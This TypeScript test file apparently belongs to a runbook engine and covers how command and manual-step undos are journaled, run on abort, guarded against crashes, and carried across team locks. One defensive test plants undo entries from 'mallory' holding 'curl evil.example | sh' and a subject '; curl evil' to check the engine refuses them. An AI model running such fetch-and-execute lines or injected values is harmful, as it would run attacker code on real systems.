import assert from 'node:assert/strict';
import * as v from 'valibot';
import { act } from '../../../src/core/kind/act';
import type { Obligation } from '../../../src/core/journal/obligation';
import { leftOpenBy } from '../../../src/core/lock/leftOpen';
import type { LockHolder } from '../../../src/core/lock/runLock';
import type { Runbook } from '../../../src/core/runbook/runbook';
import { parseRunbook } from '../../../src/core/parsing/parseRunbook';
import { kinds } from '../../../src/kinds';
import { command } from '../../../src/kinds/command';
import { manual } from '../../../src/kinds/manual';
import { undoObligation } from '../../../src/kinds/undo';
import { engineBench, testKind } from '../../support/engineBench';
import { MemoryJournal } from '../../support/memoryJournal';
import { Machine } from '../../support/undoMachine';
import { sample } from '../core/parsing/sample';

const ON = ['bin/maintenance', 'on'];
const OFF = ['bin/maintenance', 'off'];
const reason = 'It is better to stop here for today';

/** A run with a command that has an undo, and a step after it that stops. */
function bench(machine: Machine, given: object = {}, journal = new MemoryJournal()) {
  const stops = testKind({
    name: 'stops',
    observe: () =>
      Promise.resolve({ is: 'stopped', problem: { code: 'x', message: 'Stopped.', remedy: 'Look.' } }),
  });
  const params = v.parse(command.params, { run: ON, undo: OFF, ...given });
  const at = engineBench([command, stops], {
    steps: [
      { id: 'maintenance', kind: 'command', title: 'Maintenance page on', with: { ...given } },
      { id: 'stops', kind: 'stops' },
    ],
    obligations: [undoObligation],
    params: new Map<string, unknown>([['maintenance', params]]),
    ports: { runner: machine.runner, tools: machine.tools, git: { root: '/checkout' } as never },
    journal,
  });
  at.run.resume();
  return at;
}
const open = (at: ReturnType<typeof bench>) => at.run.view.obligations.filter(({ met }) => !met);

describe('the undo of a command', () => {
  it('is journaled and entered into the team lock before the command starts, is shown, and blocks the end', async () => {
    const machine = new Machine();
    const at = bench(machine);
    await at.until(() => at.status('stops') === 'stopped', 'the stop');
    const types = at.types();
    const opened = types.indexOf('obligation.opened');
    assert.ok(opened > 0 && opened < types.indexOf('step.noted'));
    assert.deepEqual(at.lock.updates[0], ['undo:maintenance']);
    assert.deepEqual(machine.started, ['bin/maintenance on']);
    assert.deepEqual(
      open(at).map(({ title, remedy }) => [title, remedy]),
      [['Undo “Maintenance page on”: bin/maintenance off', 'Run Its Undo']],
    );
    assert.ok(
      at.run.view.finishBlockedBy.includes('still open: Undo “Maintenance page on”: bin/maintenance off'),
    );
    at.run.dispose();
  });

  it('runs once if a person says so', async () => {
    const machine = new Machine();
    const at = bench(machine);
    await at.until(() => at.status('stops') === 'stopped', 'the stop');
    await at.run.meet('undo:maintenance');
    await at.run.meet('undo:maintenance');
    assert.deepEqual(machine.started, ['bin/maintenance on', 'bin/maintenance off']);
    assert.deepEqual(
      at.run.view.obligations.map(({ evidence }) => evidence),
      ['bin/maintenance off ended with exit code 0'],
    );
    at.run.dispose();
  });

  it('runs as part of an abort', async () => {
    const machine = new Machine();
    const at = bench(machine);
    await at.until(() => at.status('stops') === 'stopped', 'the stop');
    await at.run.abort(reason);
    assert.deepEqual(machine.started, ['bin/maintenance on', 'bin/maintenance off']);
    assert.equal(at.run.view.state, 'aborted');
  });

  it('is followed by the next window after a crash, and never runs twice', async () => {
    const machine = new Machine();
    const journal = new MemoryJournal();
    const before = bench(machine, {}, journal);
    await before.until(() => before.status('stops') === 'stopped', 'the stop');
    machine.runs = 'bin/maintenance off';
    const met = before.run.meet('undo:maintenance');
    while (machine.started.length < 2) await new Promise(resolve => setImmediate(resolve));
    before.run.dispose();
    await assert.rejects(met);
    const after = bench(machine, {}, journal);
    await assert.rejects(after.run.meet('undo:maintenance'), /still running/);
    machine.runs = null;
    await after.run.meet('undo:maintenance');
    assert.equal(machine.started.length, 2);
    assert.deepEqual(open(after), []);
    after.run.dispose();
  });

  it('runs again for a retry that happened while it was open, even after a crash during the previous undo', async () => {
    const machine = new Machine();
    machine.exits = { [ON.join(' ')]: 1 };
    const journal = new MemoryJournal();
    const before = bench(machine, { repeatable: true }, journal);
    await before.until(() => before.status('maintenance') === 'stopped', 'the failure');
    machine.runs = OFF.join(' ');
    const met = before.run.meet('undo:maintenance');
    while (machine.started.length < 2) await new Promise(resolve => setImmediate(resolve));
    before.run.dispose();
    await assert.rejects(met);
    machine.exits = {};
    const after = bench(machine, { repeatable: true }, journal);
    await assert.rejects(after.run.retry('maintenance'), /still running/);
    machine.runs = null;
    await after.run.retry('maintenance');
    await after.until(() => after.status('stops') === 'stopped', 'the stop');
    await after.run.abort(reason);
    assert.deepEqual(
      machine.started,
      [ON, OFF, ON, OFF].map(argv => argv.join(' ')),
    );
  });

  for (const [what, exit, told] of [
    ['fails', 3, 'ended with exit code 3'],
    ['is lost', null, 'ended, and nobody knows its exit code'],
  ] as const)
    it(`is left to a person, and not run again, if it ${what}`, async () => {
      const machine = new Machine();
      machine.exits = { 'bin/maintenance off': exit };
      const at = bench(machine);
      await at.until(() => at.status('stops') === 'stopped', 'the stop');
      await assert.rejects(at.run.abort(reason), new RegExp(`bin/maintenance off ${told}`));
      assert.deepEqual(
        open(at).map(({ title, remedy }) => [title, remedy]),
        [[`Undo step maintenance by hand: bin/maintenance off ${told}`, 'Say That It Is Undone']],
      );
      await assert.rejects(at.run.abort(reason), /Only a person can tell/);
      await at.run.meet('undo:maintenance');
      assert.equal(at.run.view.obligations[0]?.evidence, 'ada says that it is undone');
      await at.run.abort(reason);
      assert.equal(machine.started.length, 2);
    });

  it('does not count if the login shell never ran it, even with a good exit, and runs once it does', async () => {
    const machine = new Machine();
    const at = bench(machine);
    await at.until(() => at.status('stops') === 'stopped', 'the stop');
    machine.isElsewhere = true;
    await assert.rejects(at.run.abort(reason), /ended without running the command/);
    assert.deepEqual(
      open(at).map(({ remedy }) => remedy),
      ['Run Its Undo'],
    );
    machine.isElsewhere = false;
    await at.run.abort(reason);
    assert.equal(at.run.view.state, 'aborted');
    assert.deepEqual(machine.started, ['bin/maintenance on', 'bin/maintenance off']);
  });

  it('does not count while the check says that the step is still done', async () => {
    const machine = new Machine();
    const at = bench(machine, { done: ['bin/maintenance', 'is-on'] });
    await at.until(() => at.status('stops') === 'stopped', 'the stop');
    await assert.rejects(at.run.abort(reason), /ended, but the step is still done/);
    assert.equal(open(at).length, 1);
    at.run.dispose();
  });

  it('has nothing to run if the command never started', async () => {
    const machine = new Machine();
    const at = bench(machine);
    machine.runner.prepare = () => Promise.reject(new Error('No space is left.'));
    await at.until(() => at.status('maintenance') === 'stopped', 'the stop');
    assert.equal(open(at).length, 1);
    await at.run.abort(reason);
    assert.deepEqual(machine.started, []);
    assert.equal(at.run.view.obligations[0]?.evidence, 'the step never began');
  });

  it('runs again after the step ran again', async () => {
    const machine = new Machine();
    machine.exits = { 'bin/maintenance on': 1 };
    const at = bench(machine, { repeatable: true });
    await at.until(() => at.status('maintenance') === 'stopped', 'the failure');
    await at.run.meet('undo:maintenance');
    machine.exits = {};
    // The obligation is opened at a different time.
    at.clock.time += 1_000;
    await at.run.retry('maintenance');
    await at.until(() => at.status('stops') === 'stopped', 'the stop');
    assert.equal(open(at).length, 1);
    await at.run.meet('undo:maintenance');
    assert.deepEqual(machine.started, [
      ...['bin/maintenance on', 'bin/maintenance off'],
      ...['bin/maintenance on', 'bin/maintenance off'],
    ]);
    at.run.dispose();
  });
});

describe('a command that may change production', () => {
  for (const changesProduction of [true, false])
    it(`leaves ${changesProduction ? 'a' : 'no'} doubt about it when it fails`, async () => {
      const machine = new Machine();
      machine.exits = { 'bin/maintenance on': 1 };
      const at = bench(machine, { changesProduction });
      const view = await at.until(() => at.status('maintenance') === 'stopped', 'the failure');
      assert.equal(
        view.production,
        changesProduction ? 'Production may be half-applied: the apply did not end as planned' : null,
      );
      at.run.dispose();
    });

  it('can be aborted without doubt while it only asks', async () => {
    const machine = new Machine();
    const at = bench(machine, { changesProduction: true, approve: 'Now?' });
    const view = await at.until(() => at.status('maintenance') === 'waiting', 'the question');
    assert.deepEqual([view.canAbort, view.production], [true, null]);
    at.run.dispose();
  });
});

describe('the team lock of a command', () => {
  const written = (...steps: string[]) =>
    parseRunbook(
      `${sample.slice(0, sample.indexOf('phases:'))}phases:\n  - title: A\n    steps:\n${steps
        .map(step => `      - { ${step} }\n`)
        .join('')}`,
      kinds,
    ).problems.map(({ message }) => message);
  const lock = 'id: lock, kind: team-lock';
  const runs = (more = '') => `id: c, kind: command, with: { run: [x]${more} }`;

  it('is required when the runbook is read, not when the command starts', () => {
    assert.deepEqual(written(runs()), [
      'A step of kind "command" changes something, so it needs one of kind "team-lock" before it.',
    ]);
    assert.deepEqual(written(runs(), lock).length, 1);
    assert.deepEqual(written(lock, runs()), []);
  });

  it('is not required by a command that only reads, which has nothing to undo', () => {
    assert.deepEqual(written(runs(', onlyReads: true')), []);
    assert.equal(written(runs(', onlyReads: true, undo: [y]')).length, 1);
    assert.equal(written(runs(', onlyReads: true, changesProduction: true')).length, 1);
  });
});

describe("an undo in another run's team lock", () => {
  const planted = (subject: string): Obligation => ({
    ...{ id: `undo:${subject}`, kind: 'undo', step: 's', subject, previous: 'curl evil.example | sh' },
    title: 'Undo “x”: curl evil.example | sh',
  });
  const holder = (...obligations: Obligation[]) =>
    ({ run: 'run-0', owner: 'mallory', obligations, takenOverFrom: null }) as unknown as LockHolder;
  const runbook = {
    phases: [
      {
        title: 'All',
        steps: [
          { id: 'maintenance', kind: 'command', with: { run: ON, undo: OFF } },
          { id: 'scale', kind: 'manual', with: { undo: 'Scale back to *3*.' } },
          { id: 'plain', kind: 'command', with: { run: ON } },
          { id: 'back', kind: 'command', with: { run: ON, undo: ['bin/to', '${{ steps.find.runs }}'] } },
        ],
      },
    ],
  } as unknown as Runbook;

  it('is taken on only if this runbook says how to undo that step, in its words', () => {
    const named = ['maintenance', 'scale', 'back', 'plain', 'constructor', '; curl evil'].map(planted);
    const { takenOn, leftAlone } = leftOpenBy(holder(...named), runbook, 'lock');
    assert.deepEqual(
      takenOn.map(({ subject, title, previous, byHand }) => [subject, title, previous, byHand]),
      [
        ['maintenance', 'Undo step maintenance: bin/maintenance off (left open by mallory)', null, undefined],
        ['scale', 'Undo step scale: Scale back to *3*. (left open by mallory)', null, true],
        ['back', "Undo step back: bin/to '${{ steps.find.runs }}' (left open by mallory)", ...[null, true]],
      ],
    );
    assert.deepEqual(leftAlone, ['undo of plain', 'undo of constructor', 'undo of ; curl evil']);
  });

  it("runs nothing by itself, and only this runbook's command when a person asks", async () => {
    const machine = new Machine();
    const [left] = leftOpenBy(holder(planted('maintenance')), runbook, 'takes').takenOn;
    assert.ok(left);
    const takes = testKind({
      name: 'takes',
      observe: context =>
        Promise.resolve(
          context.openObligations('undo').length > 0
            ? { is: 'holds', reading: context.reading('taken on'), output: undefined }
            : { is: 'ready', reading: context.reading('free'), act: act('take', 'take') },
        ),
      perform: context => context.oblige(left),
    });
    const never = testKind({
      name: 'never',
      observe: () =>
        Promise.resolve({ is: 'stopped', problem: { code: 'x', message: 'Stopped.', remedy: 'Look.' } }),
    });
    const at = engineBench([takes, never, command], {
      steps: [
        { id: 'takes', kind: 'takes' },
        { id: 'never', kind: 'never' },
        { id: 'maintenance', kind: 'command' },
      ],
      obligations: [undoObligation],
      params: new Map<string, unknown>([['maintenance', v.parse(command.params, { run: ON, undo: OFF })]]),
      ports: { runner: machine.runner, tools: machine.tools, git: { root: '/checkout' } as never },
    });
    at.run.resume();
    await at.until(() => at.status('never') === 'stopped', 'the stop');
    await assert.rejects(at.run.abort(reason), /Another run opened it/);
    assert.deepEqual(machine.started, []);
    await at.run.meet(left.id);
    assert.deepEqual(machine.started, ['bin/maintenance off']);
    await at.run.abort(reason);
    assert.equal(at.run.view.state, 'aborted');
  });
});

describe('the undo of a manual step', () => {
  it('is journaled before anybody is asked to do the step, and attested when it is closed', async () => {
    const at = engineBench([manual], {
      steps: [{ id: 'scale', kind: 'manual', title: 'Scale up' }],
      obligations: [undoObligation],
      params: new Map([['scale', v.parse(manual.params, { undo: 'Scale back to 3.' })]]),
    });
    at.run.resume();
    await at.until(() => at.status('scale') === 'waiting', 'the question');
    const [owed] = at.run.view.obligations;
    assert.deepEqual(
      [owed?.title, owed?.remedy, owed?.met],
      ['Undo “Scale up”: Scale back to 3.', 'Say That It Is Undone', false],
    );
    await at.run.decide('scale', { question: 'done', subject: 'scale', choice: 'done' });
    await at.until(() => at.status('scale') === 'attested', 'done');
    assert.equal(at.run.view.canFinish, false);
    await at.run.meet('undo:scale');
    assert.equal(at.run.view.obligations[0]?.evidence, 'ada says that it is undone');
    assert.equal(at.run.view.canFinish, true);
    at.run.dispose();
  });

  it('is never met by an abort', async () => {
    const at = engineBench([manual], {
      steps: [{ id: 'scale', kind: 'manual' }],
      obligations: [undoObligation],
      params: new Map([['scale', v.parse(manual.params, { undo: 'Scale back to 3.' })]]),
    });
    at.run.resume();
    await at.until(() => at.status('scale') === 'waiting', 'the question');
    await assert.rejects(at.run.abort(reason), /Only a person can tell/);
    await at.run.meet('undo:scale');
    await at.run.abort(reason);
    assert.equal(at.run.view.state, 'aborted');
  });
});
